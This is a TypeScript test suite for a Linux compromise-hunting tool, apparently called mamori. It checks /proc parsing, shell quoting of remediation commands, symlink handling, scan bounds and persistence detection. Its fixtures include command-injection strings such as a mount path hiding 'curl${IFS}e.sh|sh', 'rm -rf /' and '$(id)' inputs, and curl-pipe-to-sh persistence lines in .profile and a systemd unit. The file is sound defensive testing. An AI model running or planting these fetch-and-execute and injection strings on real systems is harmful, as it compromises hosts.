import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { scanContext } from "../../src/audit/context.ts";
import { collectFiles, TEMP_ROOTS } from "../../src/collect/hunt/files.ts";
import {
  collectPersistence,
  collectSshKeys,
  homes,
  MAX_HOMES,
  MAX_PERSIST_LINES,
} from "../../src/collect/hunt/persistence.ts";
import { runsAsRoot } from "../../src/collect/hunt/processes.ts";
import { PROC_READ_BYTES, readProcess } from "../../src/collect/proc/processes.ts";
import { RootFs } from "../../src/collect/rootfs.ts";
import { shellQuote } from "../../src/core/shell-quote.ts";
import { mamori } from "../helpers/cli.ts";
import { tempDir, writeTree } from "../helpers/tmp.ts";
import { DATA_DIR } from "./helpers/fixture.ts";

const STAT =
  "1 (init) S 0 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 100 1000 100 0 0 0 0 0 0 0 0 0 0 0 0 0 17 0\n";

test("a forged /proc (a bundle or a fixture root): a 2 MB command line is read to 64 KiB, a __proto__ line is a field", (t) => {
  const dir = tempDir(t);
  writeTree(dir, {
    "proc/1/stat": STAT,
    "proc/1/cmdline": Buffer.concat([
      Buffer.from("/usr/bin/x\0"),
      Buffer.alloc(2_000_000, "A"),
      Buffer.from("\0"),
    ]),
    "proc/1/status":
      "Name:\tinit\n__proto__:\tz\nUid:\t1000\t1000\t1000\t1000\nGid:\t0\t0\t0\t0\nVmRSS:\t 12 kB\n",
  });
  const p = readProcess(new RootFs(dir), 1);
  assert.ok(p);
  assert.equal(p.argv[0], "/usr/bin/x");
  assert.ok(p.argv.join("\0").length <= PROC_READ_BYTES.cmdline, String(p.argv.join("").length));
  assert.ok((p.argv[1] ?? "").length > 60_000);
  assert.equal(p.uid, 1000);
  assert.equal(p.rssKb, 12);
});

test("a mount over /proc/PID named to run a command is quoted in the command mamori tells root to paste", async (t) => {
  const dir = tempDir(t);
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell variable is the attack
  const hostile = "/proc/1/x;curl${IFS}e.sh|sh";
  writeTree(dir, {
    "proc/1/stat": STAT,
    "proc/1/cmdline": "/sbin/init\0",
    "proc/1/status": "Name:\tinit\nUid:\t0\t0\t0\t0\n",
    // The kernel writes a space in a mount point as \040.
    "proc/self/mountinfo": `36 35 98:0 / ${hostile} rw - tmpfs none rw\n37 35 98:0 / /proc/1/a\\040b rw - tmpfs none rw\n`,
    "etc/passwd": "root:x:0:0:root:/root:/bin/sh\n",
  });
  const r = await mamori(["hunt", "--root", dir, "--format", "json"]);
  const report = JSON.parse(r.stdout) as { findings: { check: string; commands?: string[] }[] };
  const commands = report.findings
    .filter((f) => f.check === "process.hidden")
    .flatMap((f) => f.commands ?? []);
  assert.ok(commands.includes(`umount '${hostile}'`), JSON.stringify(commands));
  assert.ok(commands.includes("umount '/proc/1/a b'"), JSON.stringify(commands));
  assert.ok(!commands.some((c) => c.startsWith(`umount ${hostile}`)));
});

test("shellQuote leaves plain values plain and single-quotes the rest, quotes included", () => {
  assert.equal(shellQuote("/usr/local/apache2/bin/apachectl"), "/usr/local/apache2/bin/apachectl");
  assert.equal(shellQuote("apache2.service"), "apache2.service");
  assert.equal(shellQuote("x'; rm -rf / #"), `'x'\\''; rm -rf / #'`);
  assert.equal(shellQuote("$(id)"), "'$(id)'");
});

function rootCtx(dir: string) {
  return scanContext(
    { root: dir, now: () => new Date("2026-12-06T00:00:00Z"), lang: "en", dataDir: DATA_DIR },
    {},
  );
}

test("a user's ~/.bashrc linked to /etc/shadow is not read into the facts; the user's own files are", (t) => {
  const dir = tempDir(t);
  writeTree(dir, {
    "etc/passwd": "root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n",
    "etc/shadow": "root:$6$secrethash:20000:0:99999:7:::\n",
    "home/alice/.profile": "curl http://127.0.0.1:9/x.sh | sh\n",
    "home/alice/.ssh/keys-of-root":
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl root@x\n",
  });
  fs.chmodSync(path.join(dir, "etc/shadow"), 0o640);
  fs.chmodSync(path.join(dir, "home/alice/.ssh/keys-of-root"), 0o600);
  fs.symlinkSync("/etc/shadow", path.join(dir, "home/alice/.bashrc"));
  fs.symlinkSync("keys-of-root", path.join(dir, "home/alice/.ssh/authorized_keys"));
  fs.chownSync(path.join(dir, "home/alice/.profile"), 1000, 1000);
  const ctx = rootCtx(dir);
  const lines = collectPersistence(ctx);
  assert.ok(!lines.some((l) => l.text.includes("secrethash")), JSON.stringify(lines));
  assert.ok(lines.some((l) => l.path === "/home/alice/.profile" && l.text.startsWith("curl")));
  // A root-owned 0600 key file behind alice's link is not hers to show either.
  assert.deepEqual(collectSshKeys(ctx), []);
  const refused = ctx.diag.notChecked.filter((n) => n.reason === "foreign-file").map((n) => n.path);
  assert.deepEqual(refused.sort(), ["/home/alice/.bashrc", "/home/alice/.ssh/authorized_keys"]);
  // Once alice owns the key file, it is read.
  fs.chownSync(path.join(dir, "home/alice/.ssh/keys-of-root"), 1000, 1000);
  assert.equal(collectSshKeys(rootCtx(dir)).length, 1);
});

test("200,000 passwd lines and megabytes of unit lines stay bounded, and say so", (t) => {
  const dir = tempDir(t);
  const passwd = ["root:x:0:0:root:/root:/bin/sh"];
  for (let i = 0; i < 200_000; i++) passwd.push(`u${i}:x:${10_000 + i}:100::/home/u${i}:/bin/sh`);
  const unit = `[Service]\n${"ExecStart=/bin/true\n".repeat(60_000)}`;
  writeTree(dir, {
    "etc/passwd": `${passwd.join("\n")}\n`,
    "home/u1/.config/systemd/user/a.service": unit,
    "home/u1/.config/systemd/user/b.service": unit,
  });
  for (const f of ["a.service", "b.service"])
    fs.chownSync(path.join(dir, "home/u1/.config/systemd/user", f), 10_001, 100);
  const ctx = rootCtx(dir);
  assert.equal(homes(ctx).length, MAX_HOMES);
  const lines = collectPersistence(ctx);
  assert.equal(lines.length, MAX_PERSIST_LINES);
  assert.ok(ctx.diag.notChecked.some((n) => n.reason === "too-many" && n.area === "hunt.persistence"));
});

test("a home of 5,000 dotfiles costs the hunt its entry bound, not an lstat and a root each, and says so", (t) => {
  const dir = tempDir(t);
  writeTree(dir, { "etc/passwd": "root:x:0:0:root:/root:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/sh\n" });
  const home = path.join(dir, "home/bob");
  fs.mkdirSync(home, { recursive: true });
  for (let i = 0; i < 5_000; i++) fs.writeFileSync(path.join(home, `.f${i}`), "");
  const ctx = rootCtx(dir);
  const { bounds } = collectFiles(ctx, ["/home/bob"], {
    maxDepth: 4,
    maxEntries: 500,
    maxFileBytes: 1 << 20,
    maxTotalBytes: 1 << 24,
    minerStrings: [],
    extraPaths: [],
  });
  assert.ok(bounds.truncated);
  assert.ok(bounds.roots.length <= TEMP_ROOTS.length + 500, `roots: ${bounds.roots.length}`);
  assert.ok(ctx.diag.notChecked.some((n) => n.area === "hunt.files" && n.reason === "bounds"));
});

test("a unit on a merged-/usr system, enabled by a link in a .wants directory, is read once, where it lives", (t) => {
  const dir = tempDir(t);
  writeTree(dir, {
    "usr/lib/systemd/system/sys-update.service":
      "[Service]\nExecStart=/bin/sh -c 'curl -s http://127.0.0.1:9/x | sh'\n",
  });
  fs.symlinkSync("usr/lib", path.join(dir, "lib"));
  fs.mkdirSync(path.join(dir, "etc/systemd/system/multi-user.target.wants"), { recursive: true });
  fs.symlinkSync(
    "/usr/lib/systemd/system/sys-update.service",
    path.join(dir, "etc/systemd/system/multi-user.target.wants/sys-update.service"),
  );
  const lines = collectPersistence(rootCtx(dir)).filter((l) => l.unit === "sys-update.service");
  assert.deepEqual(
    lines.map((l) => l.path),
    ["/usr/lib/systemd/system/sys-update.service"],
  );
});

test("'run as root to see them' is said only to a mamori not running as root (read from its own /proc/self)", (t) => {
  const live = scanContext({ root: "/", now: () => new Date(), lang: "en", dataDir: DATA_DIR }, {});
  assert.equal(runsAsRoot(live), process.geteuid?.() === 0);
  // A fixture root's /proc/self is the image's, not mamori's.
  const dir = tempDir(t);
  writeTree(dir, { "proc/self/status": "Name:\tx\nUid:\t0\t0\t0\t0\n" });
  assert.equal(runsAsRoot(rootCtx(dir)), false);
});

test("a /tmp flooded with junk files does not use up the entry bound before /dev/shm is looked at", (t) => {
  const dir = tempDir(t);
  writeTree(dir, { "etc/passwd": "root:x:0:0:root:/root:/bin/sh\n" });
  fs.mkdirSync(path.join(dir, "tmp/junk"), { recursive: true });
  for (let i = 0; i < 2_000; i++) fs.writeFileSync(path.join(dir, "tmp/junk", `f${i}`), "x");
  const miner = path.join(dir, "dev/shm/.x/kdevtmpfsi");
  fs.mkdirSync(path.dirname(miner), { recursive: true });
  fs.writeFileSync(miner, Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(64)]), {
    mode: 0o755,
  });
  const ctx = rootCtx(dir);
  const { files, bounds } = collectFiles(ctx, [], {
    maxDepth: 6,
    maxEntries: 500,
    maxFileBytes: 1 << 20,
    maxTotalBytes: 1 << 24,
    minerStrings: [],
    extraPaths: [],
  });
  assert.deepEqual(
    files.map((f) => f.path),
    ["/dev/shm/.x/kdevtmpfsi"],
  );
  assert.ok(bounds.truncated);
  assert.ok(bounds.entriesSeen <= 500, String(bounds.entriesSeen));
  assert.ok(ctx.diag.notChecked.some((n) => n.area === "hunt.files" && n.reason === "bounds"));
});
